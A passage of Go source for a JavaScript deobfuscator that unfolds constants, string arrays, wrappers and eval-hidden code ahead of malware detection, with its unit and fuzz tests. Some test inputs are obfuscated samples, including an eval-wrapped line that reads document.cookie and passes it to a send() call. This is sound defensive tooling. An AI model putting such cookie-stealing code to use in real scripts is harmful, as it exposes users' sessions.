		name := fn.ID.Name
		switch {
		case matchIdentity(fn):
			identities[name] = fn
		case matchThunkCaller(fn):
			thunks[name] = fn
		default:
			if target, ok := matchForwarder(fn); ok && bindings[target] <= 1 && target != name {
				forwarders[name] = fn
				forwardTo[name] = target
			}
		}
	}
	if len(identities)+len(thunks)+len(forwarders) == 0 {
		return false
	}

	n := 0
	inlined := make(map[string]int)
	ast.RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		call, ok := e.(*ast.CallExpression)
		if !ok {
			return e
		}
		id, ok := call.Callee.(*ast.Identifier)
		if !ok {
			return e
		}
		name := id.Name
		switch {
		case identities[name] != nil && len(call.Arguments) == 1:
			n++
			inlined[name]++
			return call.Arguments[0]
		case thunks[name] != nil && len(call.Arguments) == 1:
			if x := thunkValue(call.Arguments[0]); x != nil {
				n++
				inlined[name]++
				return x
			}
		case forwarders[name] != nil:
			n++
			inlined[name]++
			return &ast.CallExpression{
				Callee:    &ast.Identifier{Name: forwardTo[name]},
				Arguments: call.Arguments,
			}
		}
		return e
	})

	dead := make(map[ast.Statement]bool)
	for name, fn := range identities {
		if inlined[name] > 0 && refCount(prog, name) == 0 {
			dead[fn] = true
		}
	}
	for name, fn := range thunks {
		if inlined[name] > 0 && refCount(prog, name) == 0 {
			dead[fn] = true
		}
	}
	for name, fn := range forwarders {
		if inlined[name] > 0 && refCount(prog, name) == 0 {
			dead[fn] = true
		}
	}
	n += removeDecls(prog, nil, dead)
	rep.Note("wrappers", n)
	return n > 0
}

// soleReturn unwraps a function whose entire body is one return statement.
func soleReturn(fn *ast.FunctionDeclaration) *ast.ReturnStatement {
	if len(fn.Body.Body) != 1 {
		return nil
	}
	ret, _ := fn.Body.Body[0].(*ast.ReturnStatement)
	return ret
}

func matchIdentity(fn *ast.FunctionDeclaration) bool {
	if len(fn.Params) != 1 {
		return false
	}
	ret := soleReturn(fn)
	if ret == nil {
		return false
	}
	id, ok := ret.Argument.(*ast.Identifier)
	return ok && id.Name == fn.Params[0].Name
}

func matchThunkCaller(fn *ast.FunctionDeclaration) bool {
	if len(fn.Params) != 1 {
		return false
	}
	ret := soleReturn(fn)
	if ret == nil {
		return false
	}
	call, ok := ret.Argument.(*ast.CallExpression)
	if !ok || len(call.Arguments) != 0 {
		return false
	}
	id, ok := call.Callee.(*ast.Identifier)
	return ok && id.Name == fn.Params[0].Name
}

func matchForwarder(fn *ast.FunctionDeclaration) (string, bool) {
	if len(fn.Params) != 0 {
		return "", false
	}
	ret := soleReturn(fn)
	if ret == nil {
		return "", false
	}
	call, ok := ret.Argument.(*ast.CallExpression)
	if !ok || len(call.Arguments) != 2 {
		return "", false
	}
	mem, ok := call.Callee.(*ast.MemberExpression)
	if !ok || mem.Computed {
		return "", false
	}
	prop, ok := mem.Property.(*ast.Identifier)
	if !ok || prop.Name != "apply" {
		return "", false
	}
	target, ok := mem.Object.(*ast.Identifier)
	if !ok {
		return "", false
	}
	if l, ok := call.Arguments[0].(*ast.Literal); !ok || l.Kind != ast.LiteralNull {
		return "", false
	}
	args, ok := call.Arguments[1].(*ast.Identifier)
	if !ok || args.Name != "arguments" {
		return "", false
	}
	return target.Name, true
}

// thunkValue unwraps `function () { return X; }` to X when X is safe to
// evaluate in the caller's frame.
func thunkValue(arg ast.Expression) ast.Expression {
	fn, ok := arg.(*ast.FunctionExpression)
	if !ok || len(fn.Params) != 0 || fn.ID != nil || len(fn.Body.Body) != 1 {
		return nil
	}
	ret, ok := fn.Body.Body[0].(*ast.ReturnStatement)
	if !ok || ret.Argument == nil {
		return nil
	}
	if usesThisOrArguments(ret.Argument) {
		return nil
	}
	return ret.Argument
}

// usesThisOrArguments reports whether e references `this` or `arguments`
// in its own frame (nested functions rebind both and are not descended
// into).
func usesThisOrArguments(e ast.Expression) bool {
	found := false
	ast.Walk(e, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.FunctionExpression:
			return false
		case *ast.ThisExpression:
			found = true
		case *ast.Identifier:
			if x.Name == "arguments" {
				found = true
			}
		}
		return !found
	})
	return found
}
