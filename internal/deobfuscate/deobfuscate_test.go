package deobfuscate

import (
	"context"
	"strings"
	"testing"
	"time"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
)

func norm(t *testing.T, src string) (string, *Report) {
	t.Helper()
	out, rep, err := NewPipeline(Config{}).Normalize(context.Background(), src, parser.Limits{})
	if err != nil {
		t.Fatalf("Normalize(%q): %v", src, err)
	}
	return out, rep
}

func wantContains(t *testing.T, out string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if !strings.Contains(out, sub) {
			t.Errorf("output missing %q:\n%s", sub, out)
		}
	}
}

func wantAbsent(t *testing.T, out string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if strings.Contains(out, sub) {
			t.Errorf("output still contains %q:\n%s", sub, out)
		}
	}
}

func TestFoldConstants(t *testing.T) {
	out, rep := norm(t, `var a = "ev" + "a" + "l";
var b = 2 + 3 * 4;
var c = !0;
var d = !1;
var e = (10 ^ 3) ^ 3;
var f = (7 + 5) - 5;
var g = true ? "yes" : sideEffect();
var h = "x" && other;
var i = 5 % 2;
var j = 1 < 2;`)
	wantContains(t, out, `"eval"`, `b = 14`, `c = true`, `d = false`,
		`e = 10`, `f = 7`, `g = "yes"`, `h = other`, `i = 1`, `j = true`)
	if got := rep.Fired(); len(got) == 0 || got[0] != "fold" {
		t.Fatalf("Fired() = %v, want fold first", got)
	}
}

func TestFoldLeavesNonFiniteAndSideEffects(t *testing.T) {
	out, _ := norm(t, `var a = 1 / 0; var b = ![f()]; var c = x + 1;`)
	wantContains(t, out, "1 / 0", "![f()]", "x + 1")
}

func TestStringBuiltins(t *testing.T) {
	out, _ := norm(t, `var a = String.fromCharCode(104, 105);
var b = parseInt("0x61", 16);
var c = atob("aGVsbG8=");
var d = unescape("%61%u0062");
var e = "gnirts".split("").reverse().join("");
var f = ["ab", "cd"].join("");
var g = "abc".charCodeAt(1);
var h = "abc".length;
var i = window["eval"];
var j = decodeURIComponent("%61b");
var k = "5" + 1;`)
	wantContains(t, out, `a = "hi"`, `b = 97`, `c = "hello"`, `d = "ab"`,
		`e = "string"`, `f = "abcd"`, `g = 98`, `h = 3`, `i = window.eval`,
		`j = "ab"`, `k = "51"`)
}

func TestRawNormalization(t *testing.T) {
	out, _ := norm(t, "var a = 0x61; var b = 1e3; var c = '\\x68\\x69';")
	wantContains(t, out, "a = 97", "b = 1000", `c = "hi"`)
	wantAbsent(t, out, "0x61", "1e3", "\\x68")
}

func TestStringArrayDirect(t *testing.T) {
	// The jfogs shape: a literal pool read by constant index.
	out, rep := norm(t, `var $fog$0 = ["eval", "charCodeAt", 42];
var a = $fog$0[0];
var b = $fog$0[2];`)
	wantContains(t, out, `a = "eval"`, `b = 42`)
	wantAbsent(t, out, "$fog$0")
	found := false
	for _, name := range rep.Fired() {
		if name == "strarray" {
			found = true
		}
	}
	if !found {
		t.Fatalf("Fired() = %v, want strarray", rep.Fired())
	}
}

func TestStringArrayDecoder(t *testing.T) {
	// The javascript-obfuscator shape: base64 pool behind a rotating,
	// modulo-wrapped atob decoder.
	out, _ := norm(t, `var arr = ["Y2hhcg==", "ZXZhbA==", "YXRvYg=="];
function dec(i) { return atob(arr[(i + 4) % arr.length]); }
var a = dec(0);
var b = dec(-3);`)
	wantContains(t, out, `a = "eval"`, `b = "eval"`)
	wantAbsent(t, out, "dec", "arr")
}

func TestStringArrayMutatedPoolUntouched(t *testing.T) {
	out, _ := norm(t, `var arr = ["a", "b"];
arr[0] = "z";
var a = arr[0];`)
	wantContains(t, out, `arr[0]`, `var arr`)
}

func TestStringArrayAliasedPoolUntouched(t *testing.T) {
	out, _ := norm(t, `var arr = ["a", "b"];
f(arr);
var a = arr[0];`)
	wantContains(t, out, "var a = arr[0]")
}

func TestWrappers(t *testing.T) {
	out, _ := norm(t, `function w(g) { return g; }
function th(g) { return g(); }
function fwd() { return target.apply(null, arguments); }
var a = w("plain");
var b = th(function () { return 1 + 2; });
var c = fwd("x", 9);`)
	wantContains(t, out, `a = "plain"`, `b = 3`, `c = target("x", 9)`)
	wantAbsent(t, out, "function w", "function th", "function fwd")
}

func TestThunkKeepsThisAndArguments(t *testing.T) {
	out, _ := norm(t, `function th(g) { return g(); }
var a = th(function () { return this.x; });
var b = th(function () { return arguments.length; });`)
	wantContains(t, out, "this.x", "arguments.length")
}

func TestEvalUnwrap(t *testing.T) {
	out, rep := norm(t, `eval("var hidden = document.cookie; send(hidden);");
var v = eval("40 + 2");
var f = Function("a", "return a + 1");
new Function("doWork();")();`)
	wantContains(t, out, "var hidden = document.cookie", "send(hidden)",
		"v = 42", "function(a)", "return a + 1", "doWork()")
	wantAbsent(t, out, `eval("`, `Function("`)
	found := false
	for _, name := range rep.Fired() {
		if name == "eval" {
			found = true
		}
	}
	if !found {
		t.Fatalf("Fired() = %v, want eval", rep.Fired())
	}
}

func TestEvalNested(t *testing.T) {
	out, _ := norm(t, `eval("eval(\"var deep = 7;\")");`)
	wantContains(t, out, "var deep = 7")
	wantAbsent(t, out, "eval")
}

func TestEvalComposedWithDecoders(t *testing.T) {
	// The corpus-style dropper: payload hidden behind unescape + eval.
	out, _ := norm(t, `var p = unescape("%76%61%72%20%78%20%3d%20%31%3b");
eval(p);`)
	wantContains(t, out, "var x = 1")
	wantAbsent(t, out, "eval", "unescape")
}

func TestEvalBadPayloadUntouched(t *testing.T) {
	out, _ := norm(t, `eval("syntax error ((("); eval(dynamic);`)
	wantContains(t, out, `eval("syntax error`, "eval(dynamic)")
}

func TestEvalShadowedUntouched(t *testing.T) {
	out, _ := norm(t, `function eval(s) { return log(s); }
eval("var x = 1;");`)
	wantContains(t, out, `eval("var x = 1;")`)
}

func TestDeadBranches(t *testing.T) {
	out, _ := norm(t, `if (!![]) { real(); } else { decoy(); }
if (false) { dead(); var kept; }
while (false) { gone(); }
for (var i = 0; false; i++) { skipped(); }`)
	wantContains(t, out, "real()", "var kept", "var i = 0")
	wantAbsent(t, out, "decoy", "dead()", "gone", "skipped")
}

func TestCleanSourceReturnedVerbatim(t *testing.T) {
	src := "function add(a, b) {\n  return a + b;\n}\nvar total = add(x, 2);\n"
	out, rep := norm(t, src)
	if out != src {
		t.Fatalf("clean source rewritten:\n%s", out)
	}
	if fired := rep.Fired(); len(fired) != 0 {
		t.Fatalf("Fired() = %v on clean source", fired)
	}
}

func TestNormalizeIdempotent(t *testing.T) {
	samples := []string{
		`var a = "a" + "b"; if (!0) { eval("x(" + "1)"); }`,
		`var arr = ["YQ=="]; function d(i) { return atob(arr[i]); } use(d(0));`,
		`var n = -5; var m = 2 - -3; var s = "x" + -1;`,
		`function w(g) { return g; } go(w(w("deep")));`,
	}
	p := NewPipeline(Config{})
	for _, src := range samples {
		once, _, err := p.Normalize(context.Background(), src, parser.Limits{})
		if err != nil {
			t.Fatalf("Normalize(%q): %v", src, err)
		}
		twice, _, err := p.Normalize(context.Background(), once, parser.Limits{})
		if err != nil {
			t.Fatalf("re-Normalize(%q): %v", once, err)
		}
		if once != twice {
			t.Errorf("not idempotent:\n 1st: %s\n 2nd: %s", once, twice)
		}
	}
}

func TestParseErrorReturnsSource(t *testing.T) {
	src := "var broken = (((;"
	out, _, err := NewPipeline(Config{}).Normalize(context.Background(), src, parser.Limits{})
	if err == nil {
		t.Fatal("want parse error")
	}
	if out != src {
		t.Fatalf("out = %q, want original source", out)
	}
}

func TestRoundBudgetTruncates(t *testing.T) {
	// Each round unwraps one eval level; 12 nested levels exceed 3 rounds.
	src := `var deep = 1;`
	for i := 0; i < 12; i++ {
		q := strings.ReplaceAll(src, `\`, `\\`)
		q = strings.ReplaceAll(q, `"`, `\"`)
		src = `eval("` + q + `")`
	}
	src += ";"
	_, rep, err := NewPipeline(Config{MaxRounds: 3}).Normalize(context.Background(), src, parser.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Truncated != "rounds" {
		t.Fatalf("Truncated = %q, want rounds", rep.Truncated)
	}
	if rep.Rounds != 3 {
		t.Fatalf("Rounds = %d, want 3", rep.Rounds)
	}
}

func TestCancelledContextTruncates(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	prog, err := parser.Parse(`var a = "x" + "y";`)
	if err != nil {
		t.Fatal(err)
	}
	rep := NewPipeline(Config{}).Run(ctx, prog)
	if rep.Truncated != "deadline" {
		t.Fatalf("Truncated = %q, want deadline", rep.Truncated)
	}
}

func TestNodeBudgetTruncates(t *testing.T) {
	_, rep, err := NewPipeline(Config{MaxNodes: 5}).Normalize(context.Background(),
		`var a = "x" + "y"; var b = 1 + 2; var c = 3 + 4;`, parser.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Truncated != "nodes" {
		t.Fatalf("Truncated = %q, want nodes", rep.Truncated)
	}
}

func TestReportAccounting(t *testing.T) {
	_, rep := norm(t, `var a = "x" + "y"; if (true) { b(); }`)
	if rep.Total() == 0 {
		t.Fatal("Total() = 0, want rewrites")
	}
	byName := map[string]PassStat{}
	for _, s := range rep.Stats {
		byName[s.Name] = s
	}
	if byName["fold"].Changes == 0 {
		t.Errorf("fold recorded no changes: %+v", rep.Stats)
	}
	if byName["deadcode"].Changes == 0 {
		t.Errorf("deadcode recorded no changes: %+v", rep.Stats)
	}
	if byName["fold"].Runs < 2 {
		t.Errorf("fold Runs = %d, want at least 2 (fixpoint confirmation)", byName["fold"].Runs)
	}
}

func TestMetricsRecorded(t *testing.T) {
	reg := obs.NewRegistry()
	RegisterMetrics(reg)
	ctx := obs.WithRegistry(context.Background(), reg)
	_, _, err := NewPipeline(Config{}).Normalize(ctx, `var a = "x" + "y";`, parser.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if got := reg.Counter(PassChangesMetric, changesHelp, obs.Labels{"pass": "fold"}).Value(); got == 0 {
		t.Errorf("%s{pass=fold} = %d, want > 0", PassChangesMetric, got)
	}
	if got := reg.Counter(RunsMetric, runsHelp, obs.Labels{"result": "changed"}).Value(); got != 1 {
		t.Errorf("%s{result=changed} = %d, want 1", RunsMetric, got)
	}
	_, _, err = NewPipeline(Config{}).Normalize(ctx, `var plain = 1;`, parser.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if got := reg.Counter(RunsMetric, runsHelp, obs.Labels{"result": "clean"}).Value(); got != 1 {
		t.Errorf("%s{result=clean} = %d, want 1", RunsMetric, got)
	}
}

func TestConstPropConservatism(t *testing.T) {
	out, _ := norm(t, `var s = "safe";
var w = "written";
w = "other";
function f(s) { return s; }
use(s, w, f);`)
	// s is shadowed by the parameter, w is written: neither may inline.
	wantContains(t, out, "use(s, w, f)")
}

func TestConstPropInlines(t *testing.T) {
	out, _ := norm(t, `var key = "secret";
send(key, key);`)
	wantContains(t, out, `send("secret", "secret")`)
	wantAbsent(t, out, "var key")
}

func TestDeadlineBudgetWiresIntoParse(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Nanosecond)
	defer cancel()
	time.Sleep(time.Millisecond)
	src := strings.Repeat("var x = 1;\n", 5000)
	out, _, err := NewPipeline(Config{}).Normalize(ctx, src, parser.Limits{})
	if out != src {
		t.Fatal("cancelled normalize must return the original source")
	}
	_ = err // either a parse-cancel error or a deadline truncation is fine
}
