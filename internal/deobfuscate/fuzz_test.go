package deobfuscate

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"

	"jsrevealer/internal/js/parser"
)

// FuzzDeobfuscate asserts the pipeline's two safety invariants on
// arbitrary input: whatever parses must normalize to output that re-parses
// (detection downstream re-parses the normalized source), and a clean
// (untruncated) fixpoint must be idempotent — normalizing the output again
// changes nothing. Budgets are chosen so even maximal eval splicing stays
// inside the printer's depth guard, keeping the re-parse invariant honest.
func FuzzDeobfuscate(f *testing.F) {
	seedDir := filepath.Join("..", "js", "parser", "testdata", "pathological")
	if entries, err := os.ReadDir(seedDir); err == nil {
		for _, e := range entries {
			if b, err := os.ReadFile(filepath.Join(seedDir, e.Name())); err == nil {
				f.Add(string(b))
			}
		}
	}
	for _, s := range []string{
		`var a = "ev" + "al"; window[a]("x()");`,
		`var p = ["YQ==", "Yg=="]; function d(i) { return atob(p[(i + 1) % p.length]); } d(0);`,
		`eval("eval(\"var x = 1;\")");`,
		`if (!![]) { f(); } else { g(); } while (false) { var h; }`,
		`var s = unescape("%61%u0062") + String.fromCharCode(99);`,
		`function w(g) { return g; } function t(g) { return g(); } t(function () { return w(1); });`,
		`var n = parseInt("0x61", 16) + -3; var m = "gnirts".split("").reverse().join("");`,
		`new Function("a", "return a + 1")(2);`,
	} {
		f.Add(s)
	}

	p := NewPipeline(Config{MaxRounds: 4, MaxNodes: 50_000})
	lim := parser.Limits{MaxDepth: 800, MaxTokens: 100_000}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 64<<10 {
			t.Skip()
		}
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		out, rep, err := p.Normalize(ctx, src, lim)
		if err != nil {
			if out != src {
				t.Fatalf("error path must return the source unchanged")
			}
			return
		}
		if out == src {
			return
		}
		if _, err := parser.ParseWithLimits(out, lim); err != nil {
			t.Fatalf("normalized output does not re-parse: %v\nsrc: %q\nout: %q", err, src, out)
		}
		if rep.Truncated != "" {
			return // a budget-cut run makes no fixpoint promise
		}
		out2, rep2, err := p.Normalize(ctx, out, lim)
		if err != nil {
			t.Fatalf("re-normalize failed: %v\nout: %q", err, out)
		}
		if rep2.Truncated == "" && out2 != out {
			t.Fatalf("not idempotent:\nsrc: %q\n 1st: %q\n 2nd: %q", src, out, out2)
		}
	})
}
