package deobfuscate

import "jsrevealer/internal/js/ast"

// constPropPass inlines top-level `var s = <primitive literal>` bindings
// that are provably constant: declared exactly once program-wide (so no
// inner scope can shadow the name) and never written. This is the bridge
// pass that lets the literal decoders compose across statements —
// `var s = unescape("%61%6c"); eval(s);` becomes `eval("al");` once the
// strings pass has folded the initializer. Declarations whose binding ends
// up unreferenced are removed. Known limitation: a function invoked before
// the declaration executes would observe `undefined` where we inline the
// value — no obfuscator emits that shape, and straight-line top-level
// initialization is assumed.
type constPropPass struct{}

// Name implements Pass.
func (constPropPass) Name() string { return "constprop" }

// Run implements Pass.
func (constPropPass) Run(prog *ast.Program, rep *Report) bool {
	if hasWith(prog) {
		return false // dynamic scope defeats binding analysis
	}
	bindings := bindingCounts(prog)
	writes := writeCounts(prog)

	type candidate struct {
		decl  *ast.VariableDeclarator
		value *ast.Literal
	}
	consts := make(map[string]candidate)
	for _, s := range prog.Body {
		decl, ok := s.(*ast.VariableDeclaration)
		if !ok {
			continue
		}
		for _, d := range decl.Declarations {
			l := litOf(d.Init)
			if l == nil {
				continue
			}
			name := d.ID.Name
			if bindings[name] != 1 || writes[name] != 0 {
				continue
			}
			consts[name] = candidate{decl: d, value: l}
		}
	}
	if len(consts) == 0 {
		return false
	}

	n := 0
	inlined := make(map[string]int)
	ast.RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		id, ok := e.(*ast.Identifier)
		if !ok {
			return e
		}
		if c, ok := consts[id.Name]; ok {
			n++
			inlined[id.Name]++
			return cloneLiteral(c.value)
		}
		return e
	})

	// Drop a declaration only when this run inlined its references away
	// (never-referenced vars are left alone — they are dead code, not
	// obfuscation, and deleting them would make the pass fire on benign
	// scripts) and a defensive recount confirms nothing survives.
	dead := make(map[*ast.VariableDeclarator]bool)
	for name, c := range consts {
		if inlined[name] > 0 && refCount(prog, name) == 0 {
			dead[c.decl] = true
		}
	}
	n += removeDecls(prog, dead, nil)
	rep.Note("constprop", n)
	return n > 0
}
