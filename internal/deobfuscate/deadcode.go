package deobfuscate

import "jsrevealer/internal/js/ast"

// deadCodePass removes branches a constant predicate makes unreachable:
// `if (true) A else B` keeps A, `if (false)` keeps the alternate,
// `while (false)` and `for (; false;)` disappear. The fold pass has
// usually already collapsed `!![]`-style predicates to literals; this pass
// also evaluates the common constant shapes directly so it works alone.
// Var declarations are hoisted out of dropped branches as initializer-less
// declarations — `var` scoping makes the names visible outside the branch
// whether or not it runs, so dropping them could turn later assignments
// into accidental globals (or break in strict mode).
type deadCodePass struct{}

// Name implements Pass.
func (deadCodePass) Name() string { return "deadcode" }

// Run implements Pass.
func (deadCodePass) Run(prog *ast.Program, rep *Report) bool {
	n := 0
	ast.RewriteStatements(prog, func(s ast.Statement) ([]ast.Statement, bool) {
		switch x := s.(type) {
		case *ast.IfStatement:
			t, known := staticTruth(x.Test)
			if !known {
				return nil, false
			}
			kept, dropped := x.Consequent, x.Alternate
			if !t {
				kept, dropped = x.Alternate, x.Consequent
			}
			n++
			out := hoistVarDecls(dropped)
			return append(out, branchStmts(kept)...), true
		case *ast.WhileStatement:
			if t, known := staticTruth(x.Test); known && !t {
				n++
				return hoistVarDecls(x.Body), true
			}
		case *ast.ForStatement:
			if x.Test == nil {
				return nil, false
			}
			if t, known := staticTruth(x.Test); known && !t {
				n++
				// The init clause still executes once.
				var out []ast.Statement
				switch init := x.Init.(type) {
				case *ast.VariableDeclaration:
					out = append(out, init)
				case ast.Expression:
					out = append(out, &ast.ExpressionStatement{Expression: init})
				}
				return append(out, hoistVarDecls(x.Body)...), true
			}
		}
		return nil, false
	})
	rep.Note("deadcode", n)
	return n > 0
}

// staticTruth evaluates the constant-predicate shapes obfuscators emit.
func staticTruth(e ast.Expression) (value, known bool) {
	switch x := e.(type) {
	case *ast.Literal:
		if x.Kind == ast.LiteralRegExp {
			return true, true // a regex object is always truthy
		}
		return truthy(x), true
	case *ast.UnaryExpression:
		if x.Operator == "!" {
			if v, ok := staticTruth(x.Argument); ok {
				return !v, true
			}
		}
	case *ast.ArrayExpression:
		if len(x.Elements) == 0 {
			return true, true
		}
	case *ast.ObjectExpression:
		if len(x.Properties) == 0 {
			return true, true
		}
	}
	return false, false
}

// branchStmts flattens a kept branch into a statement list.
func branchStmts(s ast.Statement) []ast.Statement {
	switch x := s.(type) {
	case nil:
		return nil
	case *ast.BlockStatement:
		return x.Body
	case *ast.EmptyStatement:
		return nil
	default:
		return []ast.Statement{s}
	}
}

// hoistVarDecls extracts the var names (and function declarations, which
// hoist the same way) declared inside a dropped statement. Nested function
// bodies have their own scope and are not descended into.
func hoistVarDecls(s ast.Statement) []ast.Statement {
	if s == nil {
		return nil
	}
	var names []string
	seen := make(map[string]bool)
	var fns []ast.Statement
	ast.Walk(s, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.FunctionDeclaration:
			// Function declarations hoist out of blocks in ES5; keep the
			// whole declaration so later calls still resolve.
			fns = append(fns, x)
			return false
		case *ast.FunctionExpression:
			return false
		case *ast.VariableDeclarator:
			if !seen[x.ID.Name] {
				seen[x.ID.Name] = true
				names = append(names, x.ID.Name)
			}
		}
		return true
	})
	out := fns
	if len(names) > 0 {
		decl := &ast.VariableDeclaration{Kind: "var"}
		for _, name := range names {
			decl.Declarations = append(decl.Declarations,
				&ast.VariableDeclarator{ID: &ast.Identifier{Name: name}})
		}
		out = append(out, decl)
	}
	return out
}
