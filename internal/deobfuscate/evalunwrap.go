package deobfuscate

import (
	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
)

// Re-parse guards for spliced code. Nesting depth (eval-in-eval) is capped
// separately by the pipeline's round budget: each round unwraps one level.
const (
	evalMaxBytes  = 1 << 20
	evalMaxDepth  = 500
	evalMaxTokens = 200_000
)

// evalPass unwraps code hidden in string literals behind dynamic
// evaluation. A statement-position `eval("...")` is re-parsed and its
// statements spliced in place (direct eval runs in the caller's scope, so
// the splice is exact). An expression-position `eval("...")` whose payload
// is a single expression becomes that expression. `Function("a", "return
// a")` and its `new` form become a function expression with the parsed
// body — revealing the payload at the cost of the Function constructor's
// global-scope chain, a deviation only observable when an enclosing scope
// shadows a global the payload uses. Payloads that fail to re-parse are
// left untouched.
type evalPass struct{}

// Name implements Pass.
func (evalPass) Name() string { return "eval" }

// Run implements Pass.
func (evalPass) Run(prog *ast.Program, rep *Report) bool {
	bindings := bindingCounts(prog)
	// A local binding named eval/Function is not the global evaluator.
	evalOK := bindings["eval"] == 0
	fnOK := bindings["Function"] == 0
	if !evalOK && !fnOK {
		return false
	}

	n := 0
	if evalOK {
		ast.RewriteStatements(prog, func(s ast.Statement) ([]ast.Statement, bool) {
			es, ok := s.(*ast.ExpressionStatement)
			if !ok {
				return nil, false
			}
			code, ok := evalArg(es.Expression)
			if !ok {
				return nil, false
			}
			sub := reparse(code)
			if sub == nil {
				return nil, false
			}
			n++
			return sub.Body, true
		})
	}
	ast.RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		if evalOK {
			if code, ok := evalArg(e); ok {
				if sub := reparse(code); sub != nil && len(sub.Body) == 1 {
					if es, ok := sub.Body[0].(*ast.ExpressionStatement); ok {
						n++
						return es.Expression
					}
				}
				return e
			}
		}
		if fnOK {
			if fn := functionOfLiteral(e); fn != nil {
				n++
				return fn
			}
		}
		return e
	})
	rep.Note("eval", n)
	return n > 0
}

// evalArg extracts the payload of `eval("code")`.
func evalArg(e ast.Expression) (string, bool) {
	call, ok := e.(*ast.CallExpression)
	if !ok || len(call.Arguments) != 1 {
		return "", false
	}
	id, ok := call.Callee.(*ast.Identifier)
	if !ok || id.Name != "eval" {
		return "", false
	}
	l := litOf(call.Arguments[0])
	if l == nil || l.Kind != ast.LiteralString {
		return "", false
	}
	return l.StrVal, true
}

// functionOfLiteral rewrites `Function(params..., body)` / `new Function(
// params..., body)` with all-literal arguments into an explicit function
// expression.
func functionOfLiteral(e ast.Expression) ast.Expression {
	var args []ast.Expression
	switch x := e.(type) {
	case *ast.CallExpression:
		id, ok := x.Callee.(*ast.Identifier)
		if !ok || id.Name != "Function" {
			return nil
		}
		args = x.Arguments
	case *ast.NewExpression:
		id, ok := x.Callee.(*ast.Identifier)
		if !ok || id.Name != "Function" {
			return nil
		}
		args = x.Arguments
	default:
		return nil
	}
	if len(args) == 0 {
		return nil
	}
	strs := make([]string, len(args))
	for i, a := range args {
		l := litOf(a)
		if l == nil || l.Kind != ast.LiteralString {
			return nil
		}
		strs[i] = l.StrVal
	}
	params := make([]*ast.Identifier, len(strs)-1)
	for i, p := range strs[:len(strs)-1] {
		if !identName(p) {
			return nil // comma-lists and defaults are out of scope
		}
		params[i] = &ast.Identifier{Name: p}
	}
	body := reparseFunctionBody(strs[len(strs)-1])
	if body == nil {
		return nil
	}
	return &ast.FunctionExpression{Params: params, Body: body}
}

// reparseFunctionBody parses a Function-constructor body (which may
// contain bare `return`) by wrapping it in a function shell. A payload
// that escapes the shell produces extra top-level statements and is
// rejected.
func reparseFunctionBody(code string) *ast.BlockStatement {
	prog := reparse("function deob_shell_() {\n" + code + "\n}")
	if prog == nil || len(prog.Body) != 1 {
		return nil
	}
	fd, ok := prog.Body[0].(*ast.FunctionDeclaration)
	if !ok {
		return nil
	}
	return fd.Body
}

// reparse parses an embedded payload under tight limits, returning nil on
// any failure.
func reparse(code string) *ast.Program {
	if len(code) > evalMaxBytes {
		return nil
	}
	prog, err := parser.ParseWithLimits(code, parser.Limits{
		MaxDepth:  evalMaxDepth,
		MaxTokens: evalMaxTokens,
	})
	if err != nil {
		return nil
	}
	return prog
}
