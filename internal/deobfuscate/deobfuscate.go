// Package deobfuscate is the AST-to-AST normalization stage that runs in
// front of detection: composable rewrite passes that undo the mechanical
// transforms common obfuscators apply — constant folding, string-array and
// wrapper unfolding, eval-of-literal unwrapping, dead-branch elimination,
// and literal/escape normalization — so the detector sees something close
// to the script the obfuscator started from ("normalize-then-detect").
//
// Passes implement the Pass interface and are driven by a Pipeline to a
// fixpoint: rounds repeat while any pass still changes the tree, bounded by
// a round cap, a node budget (eval splicing grows the tree), and the
// context deadline. The Report records which passes fired and how often —
// that list becomes verdict provenance (`deob_passes`), the same pattern as
// Result.Tier.
//
// Every pass must be semantics-preserving on the constructs it rewrites and
// conservative everywhere else: when a binding might be shadowed, mutated,
// or aliased, the pass leaves it alone. Nothing here executes script —
// loops, dynamic decoding, and environment-dependent code stay as-is and
// fall through to the detector unchanged.
package deobfuscate

import (
	"context"
	"fmt"
	"time"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
	"jsrevealer/internal/obs"
)

// Pipeline budget defaults.
const (
	// DefaultMaxRounds caps fixpoint iterations; each round runs every pass
	// once, so this also caps how many levels of nested eval("...") unwrap.
	DefaultMaxRounds = 10
	// DefaultMaxNodes stops the pipeline when the tree grows past this many
	// nodes (eval splicing is the only pass that can grow it).
	DefaultMaxNodes = 250_000
)

// Config tunes the normalization stage. The zero value disables it; with
// Enabled set, zero budgets select the defaults above.
type Config struct {
	// Enabled turns the stage on. Off is a guaranteed zero-cost opt-out:
	// the scan engine never parses or prints on the normalization path.
	Enabled bool
	// MaxRounds caps fixpoint rounds; <= 0 means DefaultMaxRounds.
	MaxRounds int
	// MaxNodes is the tree-growth budget; <= 0 means DefaultMaxNodes.
	MaxNodes int
}

// Pass is one composable AST-to-AST rewrite. Run mutates prog in place,
// records per-rewrite counts on rep (Report.Note), and reports whether it
// changed anything — the pipeline iterates rounds until no pass does.
// Passes must be safe to re-run on their own output (idempotent at
// fixpoint) and must never panic on any tree the parser can produce.
type Pass interface {
	// Name identifies the pass in reports, metrics, and provenance.
	Name() string
	// Run applies the pass to prog, noting rewrite counts on rep.
	Run(prog *ast.Program, rep *Report) (changed bool)
}

// DefaultPasses returns the standard pass sequence in application order:
// fold, strings, constprop, strarray, wrappers, eval, deadcode. Order is a
// heuristic, not a contract — the fixpoint loop makes any order converge to
// the same tree; this one just converges in fewer rounds.
func DefaultPasses() []Pass {
	return []Pass{
		foldPass{},
		stringsPass{},
		constPropPass{},
		stringArrayPass{},
